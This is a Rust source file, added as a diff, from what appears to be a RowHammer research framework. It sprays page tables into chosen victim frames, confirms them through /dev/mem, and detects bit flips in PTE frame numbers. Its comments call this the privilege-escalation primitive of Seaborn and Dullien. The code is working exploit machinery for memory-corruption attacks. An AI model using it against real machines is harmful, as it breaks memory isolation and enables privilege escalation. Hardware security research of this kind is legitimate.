@@ -0,0 +1,255 @@
+use std::collections::HashMap;
+use std::convert::TryInto;
+use std::fs::{File, OpenOptions};
+use std::io::{Read, Seek};
+use std::os::unix::io::FromRawFd;
+use std::sync::LazyLock;
+use log::*;
+
+use crate::config::*;
+use crate::utils::{devmem, serialize::*};
+use crate::utils::oracle::PhysAddrOracle;
+
+//Page-table victims (see `PteVictimFrame`): instead of target binary content,
+//the victim frame holds a page-table page of this process and a flip in the
+//frame number of one of its PTEs changes the translation of the page it maps
+//(the privilege escalation primitive of Seaborn and Dullien, 2015)
+//  1. The victim frames are freed right before spraying page tables: a spray
+//     file of PTES_PER_TABLE pages is mapped again and again, every time in
+//     its own 2MB aligned region, so the kernel allocates a new page-table
+//     page (filled with PTEs to the frames of the spray file) for every
+//     region, and it reuses recently freed frames first
+//  2. A victim frame holds the page table of a region if its entries are the
+//     frames of the spray file (known through pagemap), which is confirmed by
+//     changing the protection of the first page of the region
+//  3. After hammering, a flip shows as a changed translation (pagemap) of the
+//     page mapped by the PTE
+//The page tables are read and restored with /dev/mem (see utils/devmem.rs
+//for the requirements), the original PTEs are restored before the spray is
+//unmapped, otherwise the kernel releases the wrong frame
+
+//x86-64 page tables: 4KB pages of 512 entries (see PTE_FRAME_MASK), the
+//spray needs 4KB pages
+static PTES_PER_TABLE: usize = 512;
+static REGION_SIZE: LazyLock<usize> =
+  LazyLock::new(|| PTES_PER_TABLE * *PAGE_SIZE);
+//maximal number of sprayed regions (= page-table pages)
+static SPRAY_MAX_REGIONS: usize = 1 << 14;
+static PTE_PRESENT: u64 = 1;
+
+//A page table of the spray in a victim frame
+struct PageTable {
+  region_addr: u64, //virtual address of the region it maps
+  entries: Vec<u64>, //original PTEs
+  victim_offsets: Vec<u64> //offsets of the victim bytes in the page
+}
+
+pub struct PteSpray {
+  _file: File,
+  reserved: (u64, usize), //(address, length) of the reserved virtual range
+  //frame of every page of the spray file
+  spray_frames: Vec<u64>,
+  //victim frame -> the page table in it (only the found ones)
+  tables: HashMap<u64, PageTable>
+}
+
+fn read_entries(devmem: &mut File, frame_addr: u64) -> Vec<u64> {
+  let mut buf = vec![0u8; *PAGE_SIZE];
+  devmem.seek(std::io::SeekFrom::Start(frame_addr))
+    .expect("Failed to seek in /dev/mem");
+  devmem.read_exact(&mut buf).expect("Reading a page table failed");
+  buf.chunks_exact(8).map(|e| u64::from_le_bytes(e.try_into().unwrap()))
+    .collect()
+}
+
+fn mprotect(addr: u64, prot: libc::c_int) {
+  assert!(unsafe {libc::mprotect(addr as *mut libc::c_void, *PAGE_SIZE, prot)}
+    == 0, "mprotect of V0x{:x} failed", addr);
+}
+
+impl PteSpray {
+  //Frees the frames of the page-table victims of arg:attack_config (removes
+  //them from arg:frame2map) and sprays page tables until all of them hold a
+  //page table of the spray (or SPRAY_MAX_REGIONS regions are mapped)
+  pub fn spray(
+    oracle: &impl PhysAddrOracle, attack_config: &AttackConfig,
+    frame2map: &mut Frame2Map
+  ) -> PteSpray {
+    assert!(*PAGE_SIZE == PTES_PER_TABLE * 8, "Page-table victims need 4KB \
+      pages, the page size is {}KB", *PAGE_SIZE >> 10);
+    info!("Spraying page tables into {} victim frames",
+      attack_config.pte_victim_frames.len());
+    let fd =
+      unsafe {libc::memfd_create(b"pte_spray\0".as_ptr() as *const _, 0)};
+    assert!(fd >= 0, "Creating the spray file failed");
+    let file = unsafe {File::from_raw_fd(fd)};
+    file.set_len(*REGION_SIZE as u64)
+      .expect("Resizing the spray file failed");
+
+    //reserve the virtual range for all regions (+1 to align it)
+    let length = (SPRAY_MAX_REGIONS + 1) * *REGION_SIZE;
+    let reserved = unsafe {libc::mmap(std::ptr::null_mut(), length,
+      libc::PROT_NONE, libc::MAP_PRIVATE | libc::MAP_ANONYMOUS
+      | libc::MAP_NORESERVE, -1, 0)};
+    assert!(reserved != libc::MAP_FAILED,
+      "Reserving the spray range failed");
+    let reserved = (reserved as u64, length);
+    let base = (reserved.0 + *REGION_SIZE as u64 - 1)
+      & !(*REGION_SIZE as u64 - 1);
+
+    let mut spray = PteSpray {
+      _file: file,
+      reserved,
+      spray_frames: Vec::new(),
+      tables: HashMap::new()
+    };
+    let mut devmem = OpenOptions::new().read(true).write(true)
+      .open("/dev/mem").expect("Could not open /dev/mem");
+
+    //the first region determines the frames of the spray file
+    let map_region = |index: usize| {
+      let addr = base + (index * *REGION_SIZE) as u64;
+      let ret = unsafe {libc::mmap(addr as *mut libc::c_void, *REGION_SIZE,
+        libc::PROT_READ, libc::MAP_SHARED | libc::MAP_FIXED
+        | libc::MAP_POPULATE, fd, 0)};
+      assert!(ret != libc::MAP_FAILED, "Mapping spray region {} failed",
+        index);
+      addr
+    };
+    let first = map_region(0);
+    spray.spray_frames = (0..PTES_PER_TABLE).map(|i|
+      oracle.virt_to_phys(first + (i * *PAGE_SIZE) as u64)).collect();
+
+    let mut pending: Vec<&PteVictimFrame> =
+      attack_config.pte_victim_frames.iter().collect();
+    for victim in &pending {
+      frame2map.remove(&victim.frame_addr);
+    }
+    for index in 1..SPRAY_MAX_REGIONS {
+      let region_addr = map_region(index);
+      pending.retain(|victim| {
+        let frame_addr = &victim.frame_addr;
+        let entries = read_entries(&mut devmem, *frame_addr);
+        if !spray.is_spray_table(&entries)
+          || !spray.confirm(&mut devmem, *frame_addr, region_addr)
+        {
+          return true;
+        }
+        info!("Page table of V0x{:x} in victim frame P0x{:x} after {} \
+          regions", region_addr, frame_addr, index + 1);
+        let victim_offsets =
+          victim.victim_bits.iter().map(|b| b.offset).collect();
+        spray.tables.insert(*frame_addr,
+          PageTable {region_addr, entries, victim_offsets});
+        false
+      });
+      if pending.is_empty() {
+        break;
+      }
+    }
+    for victim in &pending {
+      warn!("No page table landed in victim frame P0x{:x}",
+        victim.frame_addr);
+    }
+
+    //a flip can only change the bit if it has the opposite value
+    for victim in &attack_config.pte_victim_frames {
+      for bit in &victim.victim_bits {
+        if let Some(original) = spray.original_pte(victim.frame_addr, bit) {
+          let value = (original >> pte_bit(bit)) & 1 == 1;
+          if value == bit.bitflip.flip_direction {
+            warn!("PTE bit {} at P0x{:x} already has the flipped value",
+              bit.bitflip, victim.frame_addr + bit.offset);
+          }
+        }
+      }
+    }
+    spray
+  }
+
+  //whether the entries are the PTEs of a region of the spray
+  fn is_spray_table(&self, entries: &[u64]) -> bool {
+    entries.iter().zip(&self.spray_frames).all(|(e, frame)|
+      e & PTE_PRESENT != 0 && e & PTE_FRAME_MASK == *frame)
+  }
+
+  //Confirms that the page table in arg:frame_addr maps arg:region_addr: its
+  //first PTE changes with the protection of the first page of the region
+  fn confirm(&self, devmem: &mut File, frame_addr: u64, region_addr: u64)
+    -> bool
+  {
+    let before = read_entries(devmem, frame_addr)[0];
+    mprotect(region_addr, libc::PROT_NONE);
+    let changed = read_entries(devmem, frame_addr)[0] != before;
+    mprotect(region_addr, libc::PROT_READ);
+    changed && read_entries(devmem, frame_addr)[0] == before
+  }
+
+  fn original_pte(&self, frame_addr: u64, victim_bit: &VictimBit)
+    -> Option<u64>
+  {
+    self.tables.get(&frame_addr)
+      .map(|t| t.entries[victim_bit.offset as usize / 8])
+  }
+
+  //Whether arg:victim_bit of the page table in arg:frame_addr flipped: the
+  //page mapped by its PTE translates to the frame with the flipped bit
+  pub fn check_flip(
+    &self, oracle: &impl PhysAddrOracle, frame_addr: u64,
+    victim_bit: &VictimBit
+  ) -> bool {
+    let table = match self.tables.get(&frame_addr) {
+      Some(table) => table,
+      None => return false
+    };
+    let index = victim_bit.offset / 8;
+    let original = table.entries[index as usize] & PTE_FRAME_MASK;
+    let virt_addr = table.region_addr + index * *PAGE_SIZE as u64;
+    let frame = oracle.virt_to_phys(virt_addr) & *PAGE_ALIGN_MASK;
+    if frame != original {
+      info!("V0x{:x} translates to P0x{:x} instead of P0x{:x}", virt_addr,
+        frame, original);
+    }
+    frame == original ^ (1 << pte_bit(victim_bit))
+  }
+
+  //Fakes the flips of all page-table victims with /dev/mem (for testing)
+  pub fn fake_flips(&self, attack_config: &AttackConfig) {
+    info!("Performing fake RowHammer on the page tables with /dev/mem");
+    let mut devmem = OpenOptions::new().read(true).write(true)
+      .open("/dev/mem").expect("Could not open /dev/mem");
+    for victim in &attack_config.pte_victim_frames {
+      if self.tables.contains_key(&victim.frame_addr) {
+        for bit in &victim.victim_bits {
+          devmem::apply_bitflip(&mut devmem, victim.frame_addr + bit.offset,
+            &bit.bitflip);
+        }
+      }
+    }
+  }
+}
+
+impl Drop for PteSpray {
+  fn drop(&mut self) {
+    //only the victim bytes were changed
+    let content: HashMap<u64, u8> = self.tables.iter()
+      .flat_map(|(frame_addr, table)| table.victim_offsets.iter()
+      .map(move |offset| (frame_addr + offset, table.entries[*offset as usize
+      / 8].to_le_bytes()[*offset as usize % 8])))
+      .collect();
+    if !content.is_empty() {
+      let failed = devmem::restore_bytes(&devmem::open(), &content);
+      //a second panic while a panic unwinds aborts the remaining cleanup
+      if !failed.is_empty() && std::thread::panicking() {
+        error!("Restoring the sprayed page tables failed at {} bytes",
+          failed.len());
+      } else {
+        assert!(failed.is_empty(), "Restoring the sprayed page tables failed \
+          at {} bytes", failed.len());
+      }
+    }
+    unsafe {
+      libc::munmap(self.reserved.0 as *mut libc::c_void, self.reserved.1);
+    }
+  }
+}